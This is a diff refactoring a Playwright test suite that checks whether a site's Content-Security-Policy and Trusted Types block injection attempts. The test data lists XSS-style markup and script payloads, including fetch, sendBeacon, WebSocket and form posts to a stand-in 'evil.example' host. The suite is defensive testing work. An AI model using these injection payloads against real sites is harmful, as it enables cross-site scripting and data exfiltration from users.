@@ -24,62 +24,56 @@ interface Attempt extends Held {
   always: boolean
 }
 
-const inMarkup = (html: string, directive: string, blocked: string, always = true) => ({
-  name: html,
+const attempt = (name: string, directive: string, blocked: string, always = true): Attempt => ({
+  name,
   directive,
   blocked,
   always,
 })
 
 const MARKUP: readonly Attempt[] = [
-  inMarkup(`<script>ran.push('script')</script>`, 'script-src-elem', 'inline'),
-  inMarkup(`<svg><script>ran.push('svg')</script></svg>`, 'script-src-elem', 'inline'),
-  inMarkup(`<img src="/gone.png" onerror="ran.push('handler')">`, 'script-src-attr', 'inline'),
-  inMarkup(`<script src="${EVIL}/a.js"></script>`, 'script-src-elem', `${EVIL}/a.js`),
-  inMarkup(`<script type="module" src="${EVIL}/b.js"></script>`, 'script-src-elem', `${EVIL}/b.js`),
-  inMarkup(`<script src="data:text/javascript,ran.push('data')"></script>`, 'script-src-elem', 'data'),
-  inMarkup(`<link rel="preload" as="script" href="${EVIL}/c.js">`, 'script-src-elem', `${EVIL}/c.js`),
-  inMarkup(`<style>body { --evil: 1 }</style>`, 'style-src-elem', 'inline'),
-  inMarkup(`<p style="--evil: 1">styled</p>`, 'style-src-attr', 'inline'),
-  inMarkup(`<link rel="stylesheet" href="${EVIL}/a.css">`, 'style-src-elem', `${EVIL}/a.css`),
-  inMarkup(`<object data="${EVIL}/o.svg"></object>`, 'object-src', EVIL),
-  inMarkup(`<embed src="${EVIL}/e.svg">`, 'object-src', EVIL),
-  inMarkup(`<base href="${EVIL}/">`, 'base-uri', `${EVIL}/`),
-  inMarkup(`<iframe src="data:text/html,<script>top.ran.push(1)</script>"></iframe>`, 'frame-src', ''),
-  inMarkup(`<iframe src="${EVIL}/frame"></iframe>`, 'frame-src', EVIL, false),
-  inMarkup(`<img src="${EVIL}/i.png">`, 'img-src', `${EVIL}/i.png`, false),
-  inMarkup(`<img src="http://evil.example/i.png">`, 'img-src', 'http://evil.example/i.png'),
-  inMarkup(`<video src="${EVIL}/v.mp4"></video>`, 'media-src', `${EVIL}/v.mp4`, false),
+  attempt(`<script>ran.push('script')</script>`, 'script-src-elem', 'inline'),
+  attempt(`<svg><script>ran.push('svg')</script></svg>`, 'script-src-elem', 'inline'),
+  attempt(`<img src="/gone.png" onerror="ran.push('handler')">`, 'script-src-attr', 'inline'),
+  attempt(`<script src="${EVIL}/a.js"></script>`, 'script-src-elem', `${EVIL}/a.js`),
+  attempt(`<script type="module" src="${EVIL}/b.js"></script>`, 'script-src-elem', `${EVIL}/b.js`),
+  attempt(`<script src="data:text/javascript,ran.push('data')"></script>`, 'script-src-elem', 'data'),
+  attempt(`<link rel="preload" as="script" href="${EVIL}/c.js">`, 'script-src-elem', `${EVIL}/c.js`),
+  attempt(`<style>body { --evil: 1 }</style>`, 'style-src-elem', 'inline'),
+  attempt(`<p style="--evil: 1">styled</p>`, 'style-src-attr', 'inline'),
+  attempt(`<link rel="stylesheet" href="${EVIL}/a.css">`, 'style-src-elem', `${EVIL}/a.css`),
+  attempt(`<object data="${EVIL}/o.svg"></object>`, 'object-src', EVIL),
+  attempt(`<embed src="${EVIL}/e.svg">`, 'object-src', EVIL),
+  attempt(`<base href="${EVIL}/">`, 'base-uri', `${EVIL}/`),
+  attempt(`<iframe src="data:text/html,<script>top.ran.push(1)</script>"></iframe>`, 'frame-src', ''),
+  attempt(`<iframe src="${EVIL}/frame"></iframe>`, 'frame-src', EVIL, false),
+  attempt(`<img src="${EVIL}/i.png">`, 'img-src', `${EVIL}/i.png`, false),
+  attempt(`<img src="http://evil.example/i.png">`, 'img-src', 'http://evil.example/i.png'),
+  attempt(`<video src="${EVIL}/v.mp4"></video>`, 'media-src', `${EVIL}/v.mp4`, false),
 ]
 
 const SINK = 'trusted-types-sink'
-const inCode = (name: string, directive: string, blocked: string, always = true) => ({
-  name,
-  directive,
-  blocked,
-  always,
-})
-const unsafe = (code: string) => inCode(code, 'require-trusted-types-for', SINK)
+const unsafe = (code: string) => attempt(code, 'require-trusted-types-for', SINK)
 
 /** By code that runs already, as an injected one would go on: each line is one function's body. */
 const CODE: readonly Attempt[] = [
-  inCode(`fetch('${EVIL}/fetch').catch(() => 0)`, 'connect-src', `${EVIL}/fetch`, false),
-  inCode(`fetch('http://evil.example/').catch(() => 0)`, 'connect-src', 'http://evil.example/'),
-  inCode(`new WebSocket('wss://evil.example/socket')`, 'connect-src', 'wss://evil.example/socket'),
-  inCode(`navigator.sendBeacon('${EVIL}/beacon', 'x')`, 'connect-src', `${EVIL}/beacon`, false),
-  inCode(`new EventSource('${EVIL}/events')`, 'connect-src', `${EVIL}/events`, false),
-  inCode(`new Image().src = '${EVIL}/pixel'`, 'img-src', `${EVIL}/pixel`, false),
-  inCode(`new Image().src = 'data:image/gif;base64,R0lGODlhAQABAAAAACw='`, 'img-src', 'data'),
-  inCode(`new FontFace('x', 'url(${EVIL}/f.woff2)').load().catch(() => 0)`, 'font-src', `${EVIL}/f.woff2`),
-  inCode(`new Worker(URL.createObjectURL(new Blob(['ran.push(1)'])))`, 'worker-src', 'blob'),
-  inCode(`import('${EVIL}/m.js').catch(() => 0)`, 'script-src-elem', `${EVIL}/m.js`),
-  inCode(`document.body.setAttribute('style', '--evil: 1')`, 'style-src-attr', 'inline'),
-  inCode(
+  attempt(`fetch('${EVIL}/fetch').catch(() => 0)`, 'connect-src', `${EVIL}/fetch`, false),
+  attempt(`fetch('http://evil.example/').catch(() => 0)`, 'connect-src', 'http://evil.example/'),
+  attempt(`new WebSocket('wss://evil.example/socket')`, 'connect-src', 'wss://evil.example/socket'),
+  attempt(`navigator.sendBeacon('${EVIL}/beacon', 'x')`, 'connect-src', `${EVIL}/beacon`, false),
+  attempt(`new EventSource('${EVIL}/events')`, 'connect-src', `${EVIL}/events`, false),
+  attempt(`new Image().src = '${EVIL}/pixel'`, 'img-src', `${EVIL}/pixel`, false),
+  attempt(`new Image().src = 'data:image/gif;base64,R0lGODlhAQABAAAAACw='`, 'img-src', 'data'),
+  attempt(`new FontFace('x', 'url(${EVIL}/f.woff2)').load().catch(() => 0)`, 'font-src', `${EVIL}/f.woff2`),
+  attempt(`new Worker(URL.createObjectURL(new Blob(['ran.push(1)'])))`, 'worker-src', 'blob'),
+  attempt(`import('${EVIL}/m.js').catch(() => 0)`, 'script-src-elem', `${EVIL}/m.js`),
+  attempt(`document.body.setAttribute('style', '--evil: 1')`, 'style-src-attr', 'inline'),
+  attempt(
     `Object.assign(make('form'), { action: '${EVIL}/form', method: 'post' }).submit()`,
     'form-action',
     `${EVIL}/form`,
   ),
-  inCode(`trustedTypes.createPolicy('mine', {})`, 'trusted-types', 'trusted-types-policy'),
+  attempt(`trustedTypes.createPolicy('mine', {})`, 'trusted-types', 'trusted-types-policy'),
   unsafe(`make('div').innerHTML = '<b>x</b>'`),
   unsafe(`make('div').outerHTML = '<b>x</b>'`),
   unsafe(`make('div').insertAdjacentHTML('beforeend', '<b>x</b>')`),
@@ -95,7 +89,7 @@ const CODE: readonly Attempt[] = [
   unsafe(`new Worker('${EVIL}/w.js')`),
   unsafe(`navigator.serviceWorker.register('${EVIL}/sw.js').catch(() => 0)`),
   unsafe(`make('button').setAttribute('onclick', 'ran.push("attribute")')`),
-  inCode(`Object.assign(make('a'), { href: 'javascript:ran.push("link")' }).click()`, 'script-src-elem', 'inline'),
+  attempt(`Object.assign(make('a'), { href: 'javascript:ran.push("link")' }).click()`, 'script-src-elem', 'inline'),
 ]
 
 declare global {
@@ -148,6 +142,12 @@ function ownPolicy(html: string, settings: Settings): string {
   return policyText(policyOf(html, settings))
 }
 
+async function expectNothing(page: Page, left: readonly string[]): Promise<void> {
+  const evil = () => [...ran, getComputedStyle(document.body).getPropertyValue('--evil')]
+  expect(await page.evaluate(evil)).toEqual([''])
+  expect(left).toEqual([])
+}
+
 const bySettings = [
   ['the policy that nginx sends', null],
   ['the policy of a build that names its hosts', HOSTS],
@@ -169,10 +169,7 @@ for (const [policy, settings] of bySettings) {
     }
     await expect.poll(async () => [...new Set(await reported())]).toEqual([...new Set(expected)])
     expect(await reported()).toEqual(expected.flatMap((each) => [each, each]))
-    expect(await page.evaluate(() => [...ran, getComputedStyle(document.body).getPropertyValue('--evil')])).toEqual([
-      '',
-    ])
-    expect(left).toEqual([])
+    await expectNothing(page, left)
     await page.getByLabel('Username').fill('wulan_r')
     await expect(page.getByLabel('Username')).toHaveValue('wulan_r')
   })
@@ -189,10 +186,7 @@ for (const [policy, settings] of bySettings) {
           .poll(() => page.evaluate(() => held.map((each) => `${each.directive} ${each.blocked}`)))
           .toContain(`${directive} ${blocked}`)
       })
-    expect(await page.evaluate(() => [...ran, getComputedStyle(document.body).getPropertyValue('--evil')])).toEqual([
-      '',
-    ])
-    expect(left).toEqual([])
+    await expectNothing(page, left)
     expect(await page.evaluate(() => location.pathname)).toBe(paths.login())
   })
 }
